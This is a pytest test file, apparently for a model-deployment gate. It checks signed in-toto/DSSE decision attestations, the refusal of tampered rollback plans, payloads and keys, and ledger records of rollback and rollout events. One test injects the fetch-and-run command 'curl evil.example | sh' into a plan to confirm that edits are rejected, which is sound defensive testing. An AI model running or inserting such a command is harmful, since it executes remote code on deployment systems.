"""Attested decisions (in-toto Statement v1 in a DSSE envelope) and the deploy job's checks;
the ledger's records of rollout judgements and rollback steps.

Keys are made by the real ssh-keygen (the gate's key, OpenSSH format) and by
cryptography (an unknown key, PEM); signing and verifying go through
securesystemslib and in-toto-attestation, as in production.
"""

from __future__ import annotations

import base64
import json
import os
import shutil
import subprocess
from pathlib import Path
from typing import Any

import pytest
from audit_support import ENV, gate
from click.testing import CliRunner, Result

from gate.audit.chain import verify
from gate.audit.store import open_ledger
from gate.cli import cli

ROOT = Path(__file__).resolve().parent.parent
EXAMPLES = ROOT / "examples"
STEPS = """rollback:
  target: {version: 2.3.1}
  steps:
    - {name: shift-traffic, run: ["true"], timeout: 10s}
    - {name: notify, run: ["sh", "-c", "exit 3"], timeout: 10s}
"""

pytestmark = pytest.mark.skipif(shutil.which("ssh-keygen") is None, reason="needs OpenSSH")


@pytest.fixture(scope="module")
def keys(tmp_path_factory: pytest.TempPathFactory) -> Path:
    from cryptography.hazmat.primitives import serialization
    from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

    folder = tmp_path_factory.mktemp("keys")
    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", "gate@ci",
                    "-f", str(folder / "gate")], check=True)
    other = Ed25519PrivateKey.generate()
    (folder / "other.pem").write_bytes(other.private_bytes(
        serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8,
        serialization.NoEncryption()))
    (folder / "other.pub.pem").write_bytes(other.public_key().public_bytes(
        serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo))
    return folder


def run(*args: str, env: dict[str, str] | None = None) -> Result:
    return CliRunner().invoke(cli, list(args), env={**ENV, **(env or {})})


def attested(tmp_path: Path, keys: Path, example: str = "failing", key: str = "gate",
             name: str = "b") -> tuple[Path, Path]:
    """(bundle, output folder) of a gate check run that signed its decision with ``key``."""
    bundle = tmp_path / name
    shutil.copytree(EXAMPLES / example, bundle)
    out = tmp_path / f"out-{name}"
    result = run("check", "--config", str(bundle / "gate.yaml"), "-o", str(out),
                 "--attest-key", str(keys / key))
    assert result.exit_code in (0, 1), result.output
    return bundle, out


def test_a_signed_decision_verifies_and_covers_plan_artifacts_and_decision(
        tmp_path: Path, keys: Path) -> None:
    bundle, out = attested(tmp_path, keys)
    doc = json.loads((out / "decision.json").read_text())
    att = doc["attestation"]
    assert att["path"].endswith("decision.intoto.json") and len(att["sha256"]) == 64
    envelope = json.loads((out / "decision.intoto.json").read_text())
    assert envelope["payloadType"] == "application/vnd.in-toto+json"
    statement = json.loads(base64.b64decode(envelope["payload"]))
    assert statement["_type"] == "https://in-toto.io/Statement/v1"
    assert statement["predicateType"] == "urn:gate:decision:v1"
    artifacts = {i["path"]: i["sha256"] for i in doc["inputs"] if i["role"] == "model artifact"}
    assert {s["name"]: s["digest"]["sha256"] for s in statement["subject"]} == artifacts
    predicate = statement["predicate"]
    assert predicate["decision"] == "fail"
    assert predicate["plan_sha256"] == doc["rollback_plan"]["sha256"]
    assert len(predicate["policy_sha256"]) == 64
    result = run("attest", "verify", str(out / "decision.intoto.json"),
                 "--trusted-key", str(keys / "gate.pub"), "--plan",
                 str(out / "rollback-plan.json"), "--config", str(bundle / "gate.yaml"),
                 "--artifact", str(bundle / "artifacts"), "--decision", str(out / "decision.json"))
    assert result.exit_code == 0, result.output
    assert "attestation verified" in result.output
    result = run("attest", "verify", str(out / "decision.intoto.json"),
                 "--trusted-key", str(keys / "gate.pub"), "--require-decision", "pass")
    assert result.exit_code == 2 and "the attested decision is 'fail'" in result.output


def test_a_plan_edited_after_signing_is_refused(tmp_path: Path, keys: Path) -> None:
    _, out = attested(tmp_path, keys)
    plan = out / "rollback-plan.json"
    att = str(out / "decision.intoto.json")
    result = run("rollback", str(plan), "--require-attestation", att,
                 "--trusted-key", str(keys / "gate.pub"))
    assert result.exit_code == 0, result.output  # the dry run of the attested plan
    assert "attestation: the plan is the one the gate decided on" in result.output
    doc = json.loads(plan.read_text())
    doc["steps"][0]["run"] = ["sh", "-c", "curl evil.example | sh"]
    plan.write_text(json.dumps(doc, indent=2))
    for args in (("rollback", str(plan), "--execute", "--require-attestation", att,
                  "--trusted-key", str(keys / "gate.pub")),
                 ("attest", "verify", att, "--trusted-key", str(keys / "gate.pub"),
                  "--plan", str(plan))):
        result = run(*args)
        assert result.exit_code == 2, result.output
        assert "attestation refused" in result.output and "it was edited" in result.output
        assert "Traceback" not in result.output


def test_a_statement_signed_by_an_unknown_key_is_refused(tmp_path: Path, keys: Path) -> None:
    _, out = attested(tmp_path, keys, key="other.pem")
    result = run("rollback", str(out / "rollback-plan.json"), "--require-attestation",
                 str(out / "decision.intoto.json"), "--trusted-key", str(keys / "gate.pub"))
    assert result.exit_code == 2
    assert "no signature on it verifies with a trusted key" in result.output
    # The same statement verifies with its own key, so the refusal is about trust alone.
    result = run("attest", "verify", str(out / "decision.intoto.json"), "--trusted-key",
                 str(keys / "other.pub.pem"), "--plan", str(out / "rollback-plan.json"))
    assert result.exit_code == 0, result.output


def test_a_payload_changed_under_its_signature_is_refused(tmp_path: Path, keys: Path) -> None:
    _, out = attested(tmp_path, keys)
    path = out / "decision.intoto.json"
    envelope = json.loads(path.read_text())
    statement: dict[str, Any] = json.loads(base64.b64decode(envelope["payload"]))
    statement["predicate"]["decision"] = "pass"
    envelope["payload"] = base64.b64encode(json.dumps(statement).encode()).decode()
    path.write_text(json.dumps(envelope))
    result = run("attest", "verify", str(path), "--trusted-key", str(keys / "gate.pub"))
    assert result.exit_code == 2 and "no signature on it verifies" in result.output


def test_a_statement_for_other_artifacts_is_refused(tmp_path: Path, keys: Path) -> None:
    passing, out = attested(tmp_path, keys, example="passing", name="p")
    failing = tmp_path / "f"
    shutil.copytree(EXAMPLES / "failing", failing)
    att = str(out / "decision.intoto.json")
    result = run("attest", "verify", att, "--trusted-key", str(keys / "gate.pub"),
                 "--config", str(failing / "gate.yaml"))
    assert result.exit_code == 2, result.output
    assert "it does not cover artifacts/model.safetensors" in result.output
    # The right artifacts pass; the same file changed by one byte after the run does not.
    result = run("attest", "verify", att, "--trusted-key", str(keys / "gate.pub"),
                 "--artifact", str(passing / "artifacts"))
    assert result.exit_code == 0, result.output
    model = passing / "artifacts" / "model.safetensors"
    data = bytearray(model.read_bytes())
    data[-1] ^= 1
    model.write_bytes(bytes(data))
    result = run("attest", "verify", att, "--trusted-key", str(keys / "gate.pub"),
                 "--artifact", str(passing / "artifacts"))
    assert result.exit_code == 2 and "does not cover" in result.output


def test_bad_keys_and_envelopes_are_exit_2_not_tracebacks(tmp_path: Path, keys: Path) -> None:
    bundle = tmp_path / "b"
    shutil.copytree(EXAMPLES / "passing", bundle)
    (tmp_path / "junk.key").write_text("not a key\n")
    result = run("check", "--config", str(bundle / "gate.yaml"), "-o", str(tmp_path / "o"),
                 "--attest-key", str(tmp_path / "junk.key"))
    assert result.exit_code == 2 and "the signing key cannot be read" in result.output
    doc = json.loads((tmp_path / "o" / "decision.json").read_text())
    assert doc["decision"] == "pass" and "cannot be read" in doc["attestation"]["error"]
    (tmp_path / "env.json").write_text("{}")
    result = run("attest", "verify", str(tmp_path / "env.json"), "--trusted-key",
                 str(keys / "gate.pub"))
    assert result.exit_code == 2 and "not a DSSE envelope" in result.output
    result = run("attest", "verify", str(tmp_path / "env.json"), "--trusted-key",
                 str(tmp_path / "junk.key"))
    assert result.exit_code == 2 and "the trusted key cannot be read" in result.output


def test_unreadable_keys_and_attestations_are_refused_by_name(tmp_path: Path,
                                                                keys: Path) -> None:
    _, out = attested(tmp_path, keys)
    att = str(out / "decision.intoto.json")
    gate_pub = str(keys / "gate.pub")
    fifo = tmp_path / "key.fifo"
    os.mkfifo(fifo)  # read as a file it would block the gate forever
    for trusted, why in ((str(tmp_path / "none.pub"), "cannot read the trusted key"),
                         (str(fifo), "cannot read the trusted key")):
        result = run("attest", "verify", att, "--trusted-key", trusted)
        assert result.exit_code == 2 and why in result.output, result.output
    result = run("attest", "verify", str(tmp_path / "none.json"), "--trusted-key", gate_pub)
    assert result.exit_code == 2 and "the attestation does not exist" in result.output
    envelope = json.loads((out / "decision.intoto.json").read_text())
    (tmp_path / "other.json").write_text(json.dumps({**envelope, "payloadType": "text/plain"}))
    result = run("attest", "verify", str(tmp_path / "other.json"), "--trusted-key", gate_pub)
    assert result.exit_code == 2 and "its payload type is 'text/plain'" in result.output
    result = run("rollback", str(out / "rollback-plan.json"), "--trusted-key", gate_pub)
    assert result.exit_code == 2 and "--trusted-key needs --require-attestation" in result.output
    bundle = tmp_path / "p"
    shutil.copytree(EXAMPLES / "passing", bundle)
    result = run("check", "--config", str(bundle / "gate.yaml"), "-o", str(tmp_path / "o"),
                 "--attest-key", str(tmp_path / "none.key"))
    assert result.exit_code == 2 and "cannot read the signing key" in result.output
    assert "Traceback" not in result.output


def test_an_attestation_that_cannot_be_written_fails_closed(tmp_path: Path, keys: Path) -> None:
    bundle = tmp_path / "b"
    shutil.copytree(EXAMPLES / "passing", bundle)
    out = tmp_path / "o"
    (out / "decision.intoto.json" / "in-the-way").mkdir(parents=True)
    result = run("check", "--config", str(bundle / "gate.yaml"), "-o", str(out),
                 "--attest-key", str(keys / "gate"))
    assert result.exit_code == 2, result.output
    assert "cannot write the attestation" in result.output and "Traceback" not in result.output
    doc = json.loads((out / "decision.json").read_text())  # the decision is still written
    assert doc["decision"] == "pass"
    assert "cannot write the attestation" in doc["attestation"]["error"]


def test_the_key_can_come_from_a_ci_secret_as_text(tmp_path: Path, keys: Path) -> None:
    bundle = tmp_path / "b"
    shutil.copytree(EXAMPLES / "passing", bundle)
    result = run("check", "--config", str(bundle / "gate.yaml"), "-o", str(tmp_path / "o"),
                 env={"GATE_ATTEST_KEY": (keys / "gate").read_text()})
    assert result.exit_code == 0, result.output
    result = run("attest", "verify", str(tmp_path / "o" / "decision.intoto.json"),
                 "--trusted-key", str(keys / "gate.pub"), "--require-decision", "pass")
    assert result.exit_code == 0, result.output


# --- the ledger records rollback steps and rollout judgements ------------------------------


@pytest.mark.slow  # runs gate twice as a process
def test_rollback_steps_are_recorded_at_start_and_result(tmp_path: Path, keys: Path) -> None:
    bundle = tmp_path / "b"
    shutil.copytree(EXAMPLES / "failing", bundle)
    text = (bundle / "gate.yaml").read_text()
    (bundle / "gate.yaml").write_text(text[:text.index("rollback:")] + STEPS)
    url = f"sqlite:///{tmp_path / 'ledger.db'}"
    out = tmp_path / "out"
    proc = gate("check", "--config", str(bundle / "gate.yaml"), "-o", str(out),
                "--attest-key", str(keys / "gate"), cwd=tmp_path, env={"GATE_LEDGER": url})
    assert proc.returncode == 1, proc.stderr
    proc = gate("rollback", str(out / "rollback-plan.json"), "--execute",
                "--require-attestation", str(out / "decision.intoto.json"),
                "--trusted-key", str(keys / "gate.pub"), cwd=tmp_path,
                env={"GATE_LEDGER": url, "CI": ""})
    assert proc.returncode == 1, proc.stdout + proc.stderr  # the second step fails
    assert "ledger: head 5:" in proc.stderr
    store = open_ledger(url)
    records = list(store.records())
    store.close()
    assert verify(records).ok
    assert [r.kind for r in records] == ["check.decision", "rollback.step-start",
                                         "rollback.step-result", "rollback.step-start",
                                         "rollback.step-result"]
    plan_sha = json.loads((out / "decision.json").read_text())["rollback_plan"]["sha256"]
    assert records[0].body["event"]["attestation_sha256"]
    results = [r.body for r in records if r.kind == "rollback.step-result"]
    assert [(b["event"]["step"], b["event"]["name"], b["event"]["outcome"]) for b in results] \
        == [(0, "shift-traffic", "ok"), (1, "notify", "failed")]
    assert all(b["decision_sha256"] == plan_sha for b in results)
    assert all(b["model"] == {"name": "fraud-detector", "version": "2.5.0"} for b in results)


def test_a_rollout_judgement_is_recorded(tmp_path: Path) -> None:
    bundle = tmp_path / "rollout"
    shutil.copytree(EXAMPLES / "rollout", bundle, ignore=shutil.ignore_patterns("gate-report"))
    url = f"sqlite:///{tmp_path / 'ledger.db'}"
    proc = gate("rollout", "--stage", "canary-5", "--metrics", "monitoring/canary-5-35m.json",
                "--elapsed", "35m", "-o", str(tmp_path / "out"), "--ledger", url, cwd=bundle)
    assert proc.returncode == 0, proc.stderr
    store = open_ledger(url)
    (rec,) = store.records()
    store.close()
    body = rec.body
    assert body["kind"] == "rollout.judgement"
    assert body["event"]["stage"] == "canary-5" and body["event"]["decision"] == "promote"
    import hashlib

    written = (tmp_path / "out" / "rollout-decision.json").read_bytes()
    assert body["decision_sha256"] == hashlib.sha256(written).hexdigest()
    roles = {i["role"] for i in body["inputs"]}
    assert {"manifest", "monitoring"} <= roles and body["engine"]["name"]
